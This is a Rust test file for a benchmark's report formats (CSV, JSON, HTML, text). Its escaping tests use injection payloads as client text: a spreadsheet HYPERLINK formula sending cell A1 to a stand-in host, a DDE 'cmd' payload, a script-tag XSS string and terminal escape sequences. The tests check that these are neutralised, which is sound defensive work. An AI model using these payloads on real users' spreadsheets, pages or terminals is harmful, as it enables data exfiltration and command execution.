//! The report's tests: every format from the same fixtures.

use super::*;
use crate::series::TotalSample;

/// The CSV header, in order: the JSON client row's documented fields (but its lists and
/// objects, `streams` and `verify`), then the verify cells.
const COLUMNS: [&str; 55] = [
    "id",
    "status",
    "time_ran_s",
    "cpu_avg_pct",
    "mem_avg_pct",
    "files_written",
    "file_size_mb",
    "chunk_size_mb",
    "heartbeats",
    "stats_reports",
    "bytes_written",
    "throughput_mb_s",
    "reason",
    "peer",
    "protocol_version",
    "start_time",
    "end_time",
    "cpu_core_avg_pct",
    "rss_avg_bytes",
    "rss_peak_bytes",
    "chunk_p50_ms",
    "chunk_p99_ms",
    "last_heartbeat_age_s",
    "cpu_last_pct",
    "mem_last_pct",
    "rss_last_bytes",
    "process_clients",
    "device_util_pct",
    "device_write_await_ms",
    "device_queue_depth",
    "device_write_mb_s",
    "io_pressure_some_pct",
    "io_pressure_full_pct",
    "dirty_bytes",
    "writeback_bytes",
    "clock_offset_ms",
    "clock_rtt_ms",
    "chunk_p90_ms",
    "chunk_p999_ms",
    "chunk_max_ms",
    "chunk_writes",
    "pace_target_mb_s",
    "schedule_lag_ms",
    "schedule_lag_p50_ms",
    "schedule_lag_p99_ms",
    "schedule_lag_max_ms",
    "response_p50_ms",
    "response_p90_ms",
    "response_p99_ms",
    "response_p999_ms",
    "response_max_ms",
    "kept_pace",
    "engine",
    "verify_blocks",
    "verify_errors",
];

fn client(id: u32, status: Status) -> ClientReport {
    ClientReport {
        id,
        status,
        time_ran_s: 12.345,
        cpu_avg_pct: 3.0,
        mem_avg_pct: 0.015,
        files_written: 4,
        file_size_mb: 50,
        chunk_size_mb: 10,
        heartbeats: 2,
        stats_reports: 1,
        bytes_written: 200 << 20,
        throughput_mb_s: 16.2,
        reason: None,
        peer: None,
        protocol_version: None,
        start_time: None,
        end_time: None,
        cpu_core_avg_pct: None,
        rss_avg_bytes: None,
        rss_peak_bytes: None,
        chunk_p50_ms: None,
        chunk_p99_ms: None,
        last_heartbeat_age_s: None,
        cpu_last_pct: None,
        mem_last_pct: None,
        rss_last_bytes: None,
        process_clients: Some(1),
        ..ClientReport::default()
    }
}

fn report() -> Report {
    Report {
        start_time: "2026-11-25T10:00:00+01:00".into(),
        end_time: "2026-11-25T10:00:20+01:00".into(),
        clients: vec![client(100, Status::Pass), {
            let mut c = client(101, Status::TimedOut);
            c.reason = Some("no heartbeat for 15.0 s".into());
            c
        }],
        total: Total {
            clients: 2,
            passed: 1,
            files_written: 8,
            bytes_written: 400 << 20,
            throughput_mb_s: 20.0,
            first_done: None,
            last_done: None,
            expected_clients: None,
            started_clients: None,
            common_start: None,
            series: vec![],
            tput: vec![],
            latency: None,
            latency_series: vec![],
            pace: None,
            verify: None,
        },
        series: vec![],
        stopped: false,
        params: Default::default(),
        verdict: None,
        io_series: vec![],
        warnings: Vec::new(),
        latency_series: vec![],
    }
}

#[test]
fn csv_has_the_json_field_names_and_one_row_per_client() {
    let mut r = report();
    r.clients[1].reason = Some("no heartbeat, \"really\"".into());
    let text = r.to_csv();
    let mut rd = ::csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = rd.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header, COLUMNS);
    let rows: Vec<::csv::StringRecord> = rd.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(&rows[0][0], "100");
    assert_eq!(&rows[1][1], "TIMED OUT");
    assert_eq!(&rows[1][12], "no heartbeat, \"really\"");
    assert_eq!(&rows[0][12], "");
    // No client: the header alone.
    r.clients.clear();
    assert_eq!(r.to_csv().lines().count(), 1);
    assert!(r.to_csv().starts_with("id,status,"));
}

#[test]
fn csv_text_cells_never_start_a_formula_and_numbers_stay_numbers() {
    let mut r = report();
    let formulas = [
        "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1",
        "\r=1",
    ];
    r.clients = formulas
        .iter()
        .enumerate()
        .map(|(i, f)| {
            let mut c = client(100 + i as u32, Status::Failed);
            c.reason = Some((*f).to_string());
            c.protocol_version = Some("=1+1".into());
            c.cpu_avg_pct = -1.5;
            c
        })
        .collect();
    r.clients.push(client(200, Status::Pass));
    r.clients[6].reason = Some("no heartbeat for 15.0 s".into());
    let text = r.to_csv();
    let mut rd = ::csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<::csv::StringRecord> = rd.records().map(|r| r.unwrap()).collect();
    for (row, f) in rows.iter().zip(formulas) {
        assert_eq!(&row[12], format!("'{f}"), "{text}");
        assert_eq!(&row[14], "'=1+1");
        assert_eq!(&row[3], "-1.5", "a number stays a number");
    }
    assert_eq!(&rows[6][12], "no heartbeat for 15.0 s");
    assert_eq!(&rows[6][3], "3.0");
    // The JSON keeps the peer's text exact.
    assert_eq!(
        Report::from_json(&r.to_json()).unwrap().clients[0]
            .reason
            .as_deref(),
        Some(formulas[0])
    );
}

#[test]
fn html_is_self_contained_with_a_row_per_client_and_charts() {
    use crate::series::{ClientSeries, Sample};
    let mut r = report();
    r.clients[1].reason = Some("<script>alert(1)</script>".into());
    let sample = |t_s: f64, cpu_pct: f64| Sample {
        t_s,
        bytes_written: 0,
        throughput_mb_s: 5.0,
        cpu_pct,
        mem_pct: 0.1,
        rss_bytes: None,
    };
    r.series = vec![ClientSeries {
        id: 100,
        samples: vec![sample(1.0, 10.0), sample(2.0, 20.0)],
        tput: vec![],
    }];
    let html = r.to_html();
    assert!(html.starts_with("<!DOCTYPE html>"));
    assert_eq!(html.matches("<tr><td>").count(), 2);
    assert!(!html.contains("<script>"), "reason must be escaped");
    assert_eq!(html.matches("<svg").count(), 2);
    assert_eq!(html.matches(r#"data-points="2""#).count(), 2);
    assert!(!html.contains("http://") || !html.contains("src=\"http"));
    assert!(!html.contains("<link") && !html.contains("<script"));
    r.series.clear();
    assert!(r.to_html().contains("no charts"));
    // No stats sample (a seed client, say): throughput from its bytes over its run.
    r.clients[0].start_time = Some("2026-11-25T10:00:02+01:00".into());
    let html = r.to_html();
    assert_eq!(html.matches("<svg").count(), 1, "{html}");
    assert!(html.contains(r#"data-client="client 100" data-points="2""#));
    assert!(html.contains("no CPU chart"));
}

#[test]
fn text_report_has_the_seed_wording() {
    let text = report().to_text();
    let expected_head = "\n=========================================================\n\
        All test clients completed!\n    Start time: 2026-11-25_10:00:00\n    \
        End time:   2026-11-25_10:00:20\n\nTotal of 2 client(s) ran. Data for each client:\n\
        ---------------------------------------------------------\n  Client 100\n    \
        Test status:   PASS\n    Time ran:      12.35 sec\n    Avg CPU usage: 3.00%\n    \
        Avg MEM usage: 0.01%\n    Files written: 4\n";
    assert!(text.starts_with(expected_head), "{text}");
    assert!(
        text.contains("    File size:     50\n    Chunk size:    10\n"),
        "{text}"
    );
    assert!(!text.contains(" MB\n"), "{text}");
    assert!(text.contains("    Test status:   TIMED OUT\n"));
    assert!(text.contains("    Reason:        no heartbeat for 15.0 s\n"));
}

#[test]
fn json_has_the_documented_keys_and_round_trips() {
    let r = report();
    let v: serde_json::Value = serde_json::from_str(&r.to_json()).unwrap();
    // Every documented field (the CSV header lists them all, in order, then the verify
    // cells, which are not fields).
    let (fields, cells) = COLUMNS.split_at(COLUMNS.len() - 2);
    for key in fields {
        assert!(v["clients"][0].get(key).is_some(), "missing {key}");
    }
    for key in cells {
        assert!(
            v["clients"][0].get(key).is_none(),
            "{key} is a CSV cell only"
        );
    }
    // A client that did not verify has no `verify`, the total none either.
    assert!(v["clients"][0].get("verify").is_none());
    assert!(v["total"].get("verify").is_none());
    assert_eq!(v["clients"][1]["status"], "TIMED OUT");
    assert!(v["clients"][0]["reason"].is_null());
    assert_eq!(Report::from_json(&r.to_json()).unwrap(), r);
}

#[test]
fn atomic_write_replaces_whole_file() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("sub").join("report.json");
    report().write_json(&path).unwrap();
    let back = Report::from_json(&std::fs::read_to_string(&path).unwrap()).unwrap();
    assert_eq!(back, report());
    let leftovers: Vec<_> = std::fs::read_dir(path.parent().unwrap())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(leftovers.len(), 1, "{leftovers:?}");
}

#[test]
fn totals_saturate_instead_of_wrapping() {
    let mut a = client(100, Status::Pass);
    a.bytes_written = u64::MAX;
    a.files_written = u64::MAX;
    let b = a.clone();
    let t = Total::of(&[a, b], 1.0);
    assert_eq!(t.bytes_written, u64::MAX);
    assert_eq!(t.files_written, u64::MAX);
    assert_eq!((t.clients, t.passed), (2, 2));
}

#[test]
fn the_headline_says_when_a_run_was_stopped() {
    let mut r = report();
    assert!(r.to_text().contains("\nAll test clients completed!\n"));
    r.stopped = true;
    r.clients[1].reason = Some(STOPPED_REASON.into());
    assert!(r
        .to_text()
        .contains("\nServer stopped before every test client completed!\n"));
    r.clients.clear();
    assert!(r
        .to_text()
        .contains("\nServer stopped before any test client connected!\n"));
    let mut c = client(7, Status::Failed);
    c.reason = Some("\x1b]0;pwned\x07".into());
    r.clients.push(c);
    assert!(r.to_text().contains("Reason:        \\u{1b}]0;pwned\\u{7}"));
}

#[test]
fn the_headline_says_when_failed_thresholds_aborted_the_run() {
    let mut r = report();
    let seed = r.to_text();
    let mut v = Verdict {
        passed: true,
        is_final: true,
        rules: Vec::new(),
        aborted_by: None,
        baseline: None,
    };
    // A run whose thresholds passed keeps the seed's block byte for byte (the verdict's
    // section comes after it).
    r.verdict = Some(v.clone());
    let text = r.to_text();
    assert!(text.starts_with(&seed), "{text}");
    assert!(
        text[seed.len()..].starts_with("Thresholds: PASSED\n"),
        "{text}"
    );
    // A failed threshold that did not stop the run: the run completed.
    v.passed = false;
    r.verdict = Some(v.clone());
    assert!(r.to_text().contains("\nAll test clients completed!\n"));
    // `abort_on_fail` stopped it: the headline says so (before "stopped", which the abort
    // also is).
    v.aborted_by = Some("threshold failed: fleet.bytes < 1 (fleet: 5 bytes)".into());
    r.verdict = Some(v);
    r.stopped = true;
    r.clients[1].status = Status::Aborted;
    let text = r.to_text();
    assert!(
        text.starts_with(&format!(
            "\n=========================================================\n{ABORTED_HEADLINE}\n"
        )),
        "{text}"
    );
    assert!(!text.contains("All test clients completed!"), "{text}");
    assert_eq!(ABORTED_HEADLINE, "Thresholds failed: the run was aborted!");
}

#[test]
fn fleet_mode_adds_one_line_after_the_seed_block() {
    let mut r = report();
    let seed = r.to_text();
    assert!(seed.ends_with("=========================================================\n"));
    r.total.expected_clients = Some(3);
    r.total.started_clients = Some(2);
    r.total.common_start = Some("2026-11-25T10:00:02+01:00".into());
    r.total.series = vec![TotalSample {
        t_s: 1.0,
        bytes_written: 1,
        throughput_mb_s: 25.5,
    }];
    let text = r.to_text();
    assert!(text.starts_with(&seed), "the seed block is unchanged");
    assert_eq!(
        &text[seed.len()..],
        "Fleet: 2 of 3 expected client(s) started together at 2026-11-25_10:00:02 (start \
         timeout); 1 PASS, 8 file(s), 400.0 MB, 20.00 MB/s overall, peak 25.50 MB/s\n"
    );
    let html = r.to_html();
    assert!(html.contains(r#"<p id="fleet">Fleet: 2 of 3"#), "{html}");
    assert!(html.contains(r#"data-client="all clients" data-points="1""#));
    r.total.started_clients = None;
    assert!(r
        .to_text()
        .contains("Fleet: 3 client(s) expected, the fleet never started;"));
    // The fields round-trip, and a report without them (an older one) still parses.
    assert_eq!(Report::from_json(&r.to_json()).unwrap(), r);
    let mut v: serde_json::Value = serde_json::from_str(&r.to_json()).unwrap();
    for k in [
        "expected_clients",
        "started_clients",
        "common_start",
        "series",
    ] {
        v["total"].as_object_mut().unwrap().remove(k);
    }
    let old = Report::from_json(&v.to_string()).unwrap();
    assert_eq!(old.total.expected_clients, None);
    assert!(old.total.series.is_empty());
}

#[test]
fn a_clock_off_by_more_than_a_second_is_warned_about_in_every_format() {
    let mut r = report();
    let seed = r.to_text();
    r.clients[0].clock_offset_ms = Some(999.5);
    r.clients[0].clock_rtt_ms = Some(0.2);
    assert!(Report::clock_warnings(&r.clients).is_empty(), "within 1 s");
    r.clients[0].clock_offset_ms = Some(-2500.0);
    r.warnings = Report::clock_warnings(&r.clients);
    let warning = "client 100's clock is 2.500 s ahead of the server's (offset -2500.0 ms, \
                   measured over a 0.2 ms round trip): its times are placed on the server's clock";
    assert_eq!(r.warnings, [warning]);
    // Text: one line after the seed's block, which is unchanged.
    let text = r.to_text();
    assert!(text.starts_with(&seed), "{text}");
    assert_eq!(&text[seed.len()..], format!("Warning: {warning}\n"));
    // HTML: at the top, both kinds of page.
    let html = r.to_html();
    assert!(
        html.contains("<div id=\"warnings\">\n<p class=\"warning\" style=\"color:#b00020\">Warning: client 100&#39;s clock is 2.500 s ahead"),
        "{html}"
    );
    // JSON: the list, and the client's figures; CSV: the clock's two columns (after
    // process_clients and the 8 empty host I/O cells; before the 4 empty latency cells, the
    // 11 empty paced cells, the empty engine cell and the 2 empty verify cells).
    let v: serde_json::Value = serde_json::from_str(&r.to_json()).unwrap();
    assert_eq!(v["warnings"][0], warning);
    assert_eq!(v["clients"][0]["clock_offset_ms"], -2500.0);
    assert_eq!(v["clients"][1]["clock_offset_ms"], serde_json::Value::Null);
    assert_eq!(Report::from_json(&r.to_json()).unwrap(), r);
    let csv = r.to_csv();
    assert!(
        csv.lines()
            .nth(1)
            .unwrap()
            .ends_with(",1,,,,,,,,,-2500.0,0.2,,,,,,,,,,,,,,,,,,"),
        "{csv}"
    );
    // No warning: no key (an older report, without it, still parses).
    r.warnings.clear();
    let v: serde_json::Value = serde_json::from_str(&r.to_json()).unwrap();
    assert!(v.get("warnings").is_none());
    // Many clients far off: the first MAX_CLOCK_WARNINGS by name, then a count.
    let far: Vec<ClientReport> = (0..15)
        .map(|i| ClientReport {
            id: i,
            clock_offset_ms: Some(1500.0),
            ..ClientReport::default()
        })
        .collect();
    let w = Report::clock_warnings(&far);
    assert_eq!(w.len(), MAX_CLOCK_WARNINGS + 1);
    assert!(w[0].starts_with("client 0's clock is 1.500 s behind the server's"));
    assert!(w[MAX_CLOCK_WARNINGS].starts_with("5 more client(s) with a clock offset above 1 s"));
}

/// Client `id`'s checks: 2 files, 1024 blocks, and `findings` (each 1 bad block of its class,
/// at offsets 4096 apart, in a file with a hostile name) counted as `verify` lines say.
fn verifying(id: u32, findings: &[crate::verify::FindingClass]) -> ClientReport {
    use crate::protocol::VerifyFinding;
    let mut errors = crate::verify::ClassCounts::default();
    for c in findings {
        errors.add(*c, 1);
    }
    ClientReport {
        verify: Some(Box::new(ClientVerify {
            files_checked: 2,
            blocks_checked: 1024,
            errors,
            errors_total: errors.total(),
            findings: findings
                .iter()
                .enumerate()
                .map(|(i, c)| VerifyFinding {
                    class: *c,
                    offset_bytes: i as u64 * 4096,
                    blocks: 1,
                    path: format!("/data/<b>client_{id}\u{1b}[31m</b>"),
                    expected: "generation 2".into(),
                    found: "generation 1 (an older write)".into(),
                })
                .collect(),
            findings_left_off: 0,
        })),
        ..client(id, Status::Pass)
    }
}

/// Clients 100 (verified, clean), 101 (1 corrupt, 6 stale blocks) and 102 (did not verify).
fn verified_report() -> Report {
    use crate::verify::FindingClass::{Corrupt, Stale};
    let mut r = report();
    r.clients = vec![
        verifying(100, &[]),
        verifying(101, &[Corrupt, Stale, Stale, Stale, Stale, Stale, Stale]),
        client(102, Status::Pass),
    ];
    r.total = Total::of(&r.clients, 20.0);
    r
}

#[test]
fn verified_data_is_in_the_json_and_csv() {
    let r = verified_report();
    let t = r.total.verify.clone().unwrap();
    assert_eq!(
        (
            t.clients,
            t.clients_with_errors,
            t.files_checked,
            t.blocks_checked
        ),
        (2, 1, 4, 2048)
    );
    assert_eq!(
        (t.errors.corrupt, t.errors.stale, t.errors_total),
        (1, 6, 7)
    );
    // JSON: per client and total, round trip; none for the client that did not verify.
    let v: serde_json::Value = serde_json::from_str(&r.to_json()).unwrap();
    let c = &v["clients"][1]["verify"];
    assert_eq!(c["blocks_checked"], 1024);
    assert_eq!(c["errors"]["stale"], 6);
    assert_eq!(c["errors_total"], 7);
    assert_eq!(c["findings"][0]["class"], "corrupt");
    assert_eq!(c["findings"][1]["offset_bytes"], 4096);
    // A finding's fields in the documented order.
    let json = serde_json::to_string(&r).unwrap();
    let at = json.find("\"findings\":[{").unwrap();
    let mut from = at;
    for key in [
        "class",
        "offset_bytes",
        "blocks",
        "path",
        "expected",
        "found",
    ] {
        from += json[from..].find(&format!("\"{key}\":")).unwrap();
    }
    assert!(
        json[at..from].find('}').is_none(),
        "one finding's keys, in order"
    );
    assert!(v["clients"][2].get("verify").is_none());
    assert_eq!(v["total"]["verify"]["errors_total"], 7);
    assert_eq!(Report::from_json(&r.to_json()).unwrap(), r);
    // CSV: the two cells last, empty for the client that did not verify.
    let csv = r.to_csv();
    let rows: Vec<&str> = csv.lines().collect();
    assert_eq!(rows.len(), 4);
    assert!(rows[1].ends_with(",1024,0"), "{}", rows[1]);
    assert!(rows[2].ends_with(",1024,7"), "{}", rows[2]);
    assert!(rows[3].ends_with(",,"), "{}", rows[3]);
}

#[test]
fn verified_data_is_in_the_text_and_html_and_a_plain_run_is_unchanged() {
    let r = verified_report();
    let plain = report();
    let (plain_text, plain_csv) = (plain.to_text(), plain.to_csv());
    // Text: the line and the client with bad blocks, its first 5 findings (escaped), a count.
    let text = r.to_text();
    assert!(
        text.contains(
            "\nVerified data, 2 client(s): 2048 block(s) in 4 file(s) checked, 7 bad (corrupt 1, \
             stale 6, misdirected 0, torn 0, short 0) in 1 client(s)\n  Client 101: 7 bad \
             block(s) of 1024 checked (corrupt 1, stale 6, misdirected 0, torn 0, short 0)\n    \
             corrupt at offset 0 of /data/<b>client_101\\u{1b}[31m</b> (1 block(s)): expected \
             generation 2, found generation 1 (an older write)\n"
        ),
        "{text}"
    );
    assert!(
        text.contains("    (2 more finding(s) in the JSON report)\n"),
        "{text}"
    );
    assert!(!text.contains("Client 100:"), "{text}");
    assert!(!text.contains('\u{1b}'), "{text}");
    // HTML: the section, a row per verifying client, the findings escaped.
    let html = r.to_html();
    assert!(html.contains("<h2>Verified data</h2>"), "{html}");
    assert!(html.contains("<tr data-verify=\"100\"><td>100</td><td>2</td><td>1024</td><td>0</td>"));
    assert!(html.contains(
        "<tr data-verify=\"101\"><td>101</td><td>2</td><td>1024</td><td class=\"FAILED\">7</td>\
         <td>1</td><td>6</td><td>0</td><td>0</td><td>0</td></tr>"
    ));
    assert!(
        !html.contains("data-verify=\"102\"><td>102</td><td>2"),
        "{html}"
    );
    assert!(html.contains("<li>stale at offset 24576 of /data/&lt;b&gt;client_101"));
    assert!(!html.contains("<b>client_"), "{html}");
    // A run without verify: no line, no cell, no section.
    assert!(!plain_text.contains("Verified"));
    assert!(!plain.to_html().contains("Verified data"));
    assert!(plain_csv.lines().nth(1).unwrap().ends_with(",,"));
}

#[test]
fn the_paged_html_lists_only_clients_with_bad_blocks_and_at_most_50() {
    use crate::verify::FindingClass::Torn;
    let mut r = report();
    r.clients = (0..120)
        .map(|i| {
            if i % 2 == 0 {
                verifying(i, &[Torn; 8])
            } else {
                verifying(i, &[])
            }
        })
        .collect();
    r.total = Total::of(&r.clients, 20.0);
    let html = r.to_html();
    let rows = html.matches("<tr data-verify=").count();
    assert_eq!(rows, 50, "only 50 of the 60 clients with bad blocks");
    assert!(
        html.contains("<p>10 more client(s) with bad blocks"),
        "{html}"
    );
    assert!(
        !html.contains("<tr data-verify=\"1\">"),
        "a clean client is not listed"
    );
    // Each listed client's first 5 findings, then a count.
    assert_eq!(
        html.matches("<li>torn at offset").count(),
        50 * TEXT_FINDINGS
    );
    assert!(html.contains("<p>3 more in the JSON report.</p>"));
}
